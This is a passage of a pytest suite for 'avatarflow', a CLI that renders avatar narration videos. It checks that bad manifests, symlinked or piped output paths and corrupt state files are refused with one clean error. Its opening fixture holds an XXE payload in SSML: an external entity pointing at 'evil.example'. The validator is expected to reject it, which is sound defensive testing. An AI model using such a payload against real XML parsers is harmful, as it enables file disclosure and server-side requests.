                  <!DOCTYPE speak [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>
                  <speak version='1.0' xml:lang='en-US'>hi</speak>
            """,
            )
        },
        "course.yaml:8: videos[0].ssml: SSML must not contain a DOCTYPE or ENTITY declaration",
    ),
}


@pytest.fixture
def recorded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A valid course with state and outputs under ``tmp_path/course``; cwd is tmp_path."""
    monkeypatch.chdir(tmp_path)
    root = tmp_path / "course"
    record_all(course(root))
    assert render_file(root / "course.yaml", "a").is_file()
    assert (root / "build/videos/a.mp4").is_file()
    return root


@pytest.mark.parametrize("case", MANIFEST_CASES.values(), ids=MANIFEST_CASES.keys())
@pytest.mark.parametrize("command", ["validate", "plan"])
def test_bad_manifest_is_one_clean_error(recorded: Path, case: Bad, command: str) -> None:
    write(recorded, case.files)
    before = snapshot(recorded.parent)
    result = run_cli(command, str(recorded / case.manifest))
    assert_one_error(result, case.error, case.also)
    assert snapshot(recorded.parent) == before
    assert not crashlog.log_path().exists()


# -- the outputs ---------------------------------------------------------------------------

OUTPUT_CASES: dict[str, Bad] = {
    "output-symlinked-outside": bad(
        {"../precious.mp4": "keep me", "build/videos/a.mp4": Link("../../../precious.mp4")},
        "course.yaml:10: videos[0].id: output build/videos/a.mp4 is a symbolic link; "
        "avatarflow writes only regular files there (move it away)",
    ),
    "output-symlinked-inside": bad(
        {"build/videos/b.mp4": Link("a.mp4")},
        "course.yaml:12: videos[1].id: output build/videos/b.mp4 is a symbolic link",
    ),
    "output-is-a-pipe": bad(
        {"build/videos/b.mp4": Fifo()},
        "course.yaml:12: videos[1].id: output build/videos/b.mp4 exists and is not a regular file",
    ),
    "output-folder-is-a-file": bad(
        {"build/videos": Link("../course.yaml")},
        "course.yaml:1: output_dir: output folder 'build/videos' exists and is not a folder",
    ),
}


@pytest.mark.parametrize("case", OUTPUT_CASES.values(), ids=OUTPUT_CASES.keys())
def test_unsafe_output_path_is_refused_before_anything_is_written(
    recorded: Path, case: Bad, monkeypatch: pytest.MonkeyPatch
) -> None:
    """apply would replace the path with a downloaded file: a symlink (and whatever it
    points at), a pipe or a folder in its way is the user's, so nothing starts."""
    monkeypatch.delenv("AZURE_SPEECH_KEY", raising=False)
    monkeypatch.setenv("AZURE_SPEECH_ENDPOINT", "http://127.0.0.1:9")  # nothing may be sent
    write(recorded, case.files)
    before = snapshot(recorded.parent)
    for args in (["plan"], ["apply", "--yes"], ["apply", "--yes", "--replace", "a"]):
        assert_one_error(run_cli(*args, str(recorded / "course.yaml")), case.error, case.also)
    assert snapshot(recorded.parent) == before
    assert run_cli("validate", str(recorded / "course.yaml")).code == 0


# -- the state ---------------------------------------------------------------------------

META = ".avatarflow/demo/state.json"
RECORD = ".avatarflow/demo/renders/{b}.json"  # {b}: the request hash of video b

STATE_CASES: dict[str, Bad] = {
    "meta-invalid-json": bad(
        {META: '{"format": 1,\n "lineage": \n'},
        ".avatarflow/demo/state.json:3: state file is corrupt (invalid JSON: Expecting value); "
        "restore it from git",
    ),
    "record-invalid-json": bad(
        {RECORD: "{\n  'request_hash': 'b'\n}\n"},
        ".avatarflow/demo/renders/{b}.json:2: state file is corrupt (invalid JSON: ",
    ),
    "record-empty-file": bad(
        {RECORD: ""},
        ".avatarflow/demo/renders/{b}.json:1: state file is corrupt (invalid JSON: ",
    ),
    "record-wrong-shape": bad(
        {RECORD: '["b", "downloaded"]\n'},
        ".avatarflow/demo/renders/{b}.json: state file is corrupt (Input should be a valid "
        "dictionary",
    ),
    "record-missing-fields": bad(
        {RECORD: '{"request_hash": "{b}", "attempt": 1}\n'},
        ".avatarflow/demo/renders/{b}.json: surface: state file is corrupt (Field required)",
    ),
    "record-wrong-status": bad(
        {
            RECORD: """\
            {"request_hash": "{b}", "status": "exploded", "synthesis_id": "x",
             "surface": "ga", "request": {}}
            """
        },
        ".avatarflow/demo/renders/{b}.json: status: state file is corrupt (Input should be ",
    ),
    "record-for-another-video": bad(
        {
            RECORD: """\
            {"request_hash": "cccccccccccc", "status": "succeeded", "synthesis_id": "x",
             "surface": "ga", "request": {}}
            """
        },
        ".avatarflow/demo/renders/{b}.json: record is for request cccccccccccc but the file "
        "is named {b}.json",
    ),
    "meta-newer-format": bad(
        {
            META: """\
            {"created_at": "2025-01-01T00:00:00Z", "format": 99,
             "lineage": "0b7e1c9e-1111-4222-8333-944455556666", "name": "demo"}
            """
        },
        ".avatarflow/demo/state.json: state format 99 is newer than this avatarflow "
        "understands (3); upgrade avatarflow",
    ),
    "meta-not-an-object": bad(
        {META: "[1, 2, 3]\n"},
        ".avatarflow/demo/state.json: state file is corrupt (Input should be a valid dictionary",
    ),
    "record-merge-conflict": bad(
        {
            RECORD: """\
            {
            <<<<<<< HEAD
              "job_id": "aaa",
            =======
              "job_id": "bbb",
            >>>>>>> feature
              "request_hash": "b"
            }
            """
        },
        ".avatarflow/demo/renders/{b}.json: state file has unresolved git merge conflict markers",
    ),
    "record-not-utf8": bad(
        {RECORD: b'{"request_hash": "b\xff"}'},
        ".avatarflow/demo/renders/{b}.json: cannot read state file: ",
    ),
}


@pytest.mark.parametrize("case", STATE_CASES.values(), ids=STATE_CASES.keys())
def test_bad_state_is_one_clean_error_and_left_alone(recorded: Path, case: Bad) -> None:
    b = render_file(recorded / "course.yaml", "b").stem
    files = {
        k.replace("{b}", b): v.replace("{b}", b) if isinstance(v, str) else v
        for k, v in case.files.items()
    }
    case = dataclasses.replace(case, files=files, error=case.error.replace("{b}", b))
    write(recorded, case.files)
    before = snapshot(recorded.parent)
    for args in (["plan"], ["plan", "--json"], ["plan", "--detailed-exitcode"]):
        result = run_cli(*args, str(recorded / "course.yaml"))
        assert_one_error(result, case.error, case.also)
    assert snapshot(recorded.parent) == before
    # validate does not read the state: a broken state does not make the manifest invalid.
    assert run_cli("validate", str(recorded / "course.yaml")).code == 0


def test_missing_meta_with_records_is_an_error(recorded: Path) -> None:
    (recorded / META).unlink()
    before = snapshot(recorded.parent)
    result = run_cli("plan", str(recorded / "course.yaml"))
    assert_one_error(
        result,
        ".avatarflow/demo/state.json: state.json is missing but render records exist; "
        "restore it from git",
    )
    assert snapshot(recorded.parent) == before


def test_merge_keys_override_instead_of_duplicating(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Control for the YAML cases: anchors and ``<<`` merges are legal, and a key of the
    mapping itself overrides the merged one rather than being a duplicate."""
    monkeypatch.chdir(tmp_path)
    manifest = course(
        tmp_path,
        """\
        version: 1
        name: demo
        defaults:
          template: narration.ssml.j2
          voice: en-US-AvaMultilingualNeural
          avatar: &lisa {character: lisa, style: graceful-sitting}
          vars: {title: Intro}
        videos:
          - id: a
            text: Hi
          - id: b
            text: Hello
            avatar:
              <<: *lisa
              style: casual-sitting
        """,
    )
    assert run_cli("validate", str(manifest)).code == 0
    result = run_cli("render", "--json", str(manifest), "b")
    assert result.code == 0, result
    avatar = json.loads(result.out)["body"]["avatarConfig"]
    assert (avatar["talkingAvatarCharacter"], avatar["talkingAvatarStyle"]) == (
        "lisa",
        "casual-sitting",
    )
